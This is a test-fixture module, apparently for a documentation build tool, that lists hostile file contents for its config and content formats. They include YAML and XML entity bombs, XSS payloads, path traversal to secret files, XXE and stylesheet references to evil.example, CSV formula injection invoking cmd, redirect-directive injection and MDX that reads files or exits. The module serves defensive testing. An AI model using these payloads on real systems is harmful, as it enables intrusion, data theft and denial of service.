/** Hostile files that stand around documents. Each is the text of a file; all of them reach for `SECRET`. */

/** Out of the source folder. */
const OUT = '../'

/** An alias that stands for ten others, nine times over. */
const BOMB = Array.from({ length: 9 }, (_, index) =>
  index === 0
    ? 'a0: &a0 [x, x, x, x, x, x, x, x, x, x]'
    : `a${index}: &a${index} [${`*a${index - 1}, `.repeat(9)}*a${index - 1}]`,
).join('\n')

/** Front matter. */
export const aliases: Record<string, string> = {
  'aliases without end': `title: &t\n  - *t\n${BOMB}\nms.custom: *a8`,
  'a merged key': '<<: { title: "<img src=x onerror=alert(1)>", __proto__: { polluted: true } }',
  'an alias of nothing': 'title: *none',
  'an alias as key': '? &k [a]\n: b\n*k : c\ntitle: "<script>alert(1)</script>"',
  'a tag that makes objects': 'title: !!python/object/apply:os.system ["alert"]',
  'a tag that makes code': 'title: !<tag:yaml.org,2002:js/function> "function () { alert(1) }"',
  'binary that is markup': 'title: !!binary PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'more than one document': 'title: a\n...\n<script>alert(1)</script>',
}

/** `toc.yml`. */
export const contents: Record<string, string> = {
  'leads out of the folder': `- name: x\n  href: ${OUT}secret.md\n- name: y\n  href: /../../secret.md\n`,
  'contents of another folder': `- name: x\n  tocHref: ${OUT}etc/passwd\n- name: y\n  href: ${OUT}toc.yml\n`,
  'addresses that run':
    '- name: x\n  href: "java\\tscript:alert(1)"\n- name: y\n  href: "&#106;avascript:alert(1)"\n- name: z\n  uid: "\\"><script>alert(1)</script>"\n',
  'aliases without end': `${BOMB}\n`,
  'items that hold themselves': '- &a\n  name: x\n  items:\n    - *a\n',
  'names that are keys':
    '- name: __proto__\n  href: a.md\n  constructor: { prototype: { polluted: true } }\n',
  'names that are no texts': '- name: { toString: x }\n  href: [a.md]\n',
}

/** `.openpublishing.redirection.json`: where a retired document went. */
export const redirects: Record<string, [from: string, to: string]> = {
  'an address that runs': ['old1.md', 'javascript:alert(1)'],
  'an address that runs, hidden': ['old2.md', '\tjava\nscript:alert(1)'],
  'a document in the address': ['old3.md', 'data:text/html,<script>alert(1)</script>'],
  'markup in the address': ['old4.md', '/a"><script>alert(1)</script>'],
  'another line of the host’s file': ['old5.md', '/a\n/* https://evil.example/:splat 301'],
  'another line before it': ['old6\n/* https:/evil.example/ 301\n.md', '/a'],
  'another directive': ['old7.md', '/a"; } location / { return 301 https://evil.example/; } #'],
  'a page out of the site': [`${OUT}old8.md`, '/a'],
  'the home page': ['index.md', '/a'],
  'a file of the site': ['_headers/../../../sw.js.md', '/a'],
}

/** `docfx.json`. */
export const docfx: Record<string, unknown> = {
  'a source outside': { build: { content: [{ files: ['**/*.md'], src: OUT }] } },
  'an absolute source': { build: { content: [{ files: ['**'], src: '/' }] } },
  'a glob that climbs': { build: { content: [{ files: [`${OUT}**/*.md`] }] } },
  'a goal outside': { build: { content: [{ files: ['**/*.md'], dest: OUT }] } },
  'a goal that is markup': {
    build: { content: [{ files: ['**/*.md'], dest: '"><script>alert(1)</script>' }] },
  },
  'breadcrumbs outside': {
    build: {
      content: [{ files: ['**/*.md'] }],
      globalMetadata: {
        breadcrumb_path: `${OUT}secret.json`,
        uhfHeaderId: '<script>alert(1)</script>',
      },
    },
  },
  'keys of objects': JSON.parse(
    '{"__proto__":{"polluted":true},"build":{"content":[{"files":["**/*.md"]}],"constructor":{"prototype":{"polluted":true}}}}',
  ),
  'no lists': { build: { content: { length: 1e9 } } },
}

const ENTITY = `<!DOCTYPE x [<!ENTITY s SYSTEM "${OUT}secret.md"><!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;]>`
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefghij'.replace(
  /./g,
  (name) => `<!ENTITY ${name} "${`&${String.fromCharCode(name.charCodeAt(0) - 1)};`.repeat(10)}">`,
)}]>`

/** What an XML file has before its root, and in place of a text. */
export const xml: Record<string, [head: string, text: string]> = {
  'an entity of a file': [ENTITY, '&s;'],
  'entities of entities': [LAUGHS, '&j;'],
  'a definition elsewhere': ['<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">', '&s;'],
  'an entity nobody has defined': ['', '&secret;'],
  'a style sheet': ['<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>', 'x'],
  'another file in its place': [
    '',
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${OUT}secret.md" parse="text"/>`,
  ],
}

/** Lines of a glossary as CSV: source, target. */
export const terms: readonly [string, string][] = [
  ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>'],
  ['=HYPERLINK("https://evil.example/")', "@SUM(1)|cmd|'/c calc'!A0"],
  ['(a+)+$', '[\\p{L}-'],
  ['__proto__', 'constructor'],
]

/** Bodies of MDX. */
export const mdx: readonly string[] = [
  `import secret from '${OUT}secret.md'\n\n{secret}`,
  `import fs from 'node:fs'\n\n{fs.readFileSync('${OUT}secret.md', 'utf8')}`,
  'export const x = globalThis.polluted = true\n\n{x}',
  '{(() => { throw new Error("run") })()}',
  '{globalThis.process.exit(7)}',
  '<a href={"javascript:alert(1)"}>x</a>',
  '<img {...{ src: "x", onerror: "alert(1)" }} />',
  '<div onClick={() => alert(1)} dangerouslySetInnerHTML={{ __html: "<script>alert(1)</script>" }} />',
  '<Fragment set:html={"<script>alert(1)</script>"} />',
  '<script>{`alert(1)`}</script>\n\n<style>{`@import "https://evil.example/x.css"`}</style>',
  `import Picture from '${OUT}secret.png'\n\n<Image src={Picture} alt={"<script>alert(1)</script>"} />`,
  '<Tabs><TabItem label="<img src=x onerror=alert(1)>" client:load>x</TabItem></Tabs>',
]
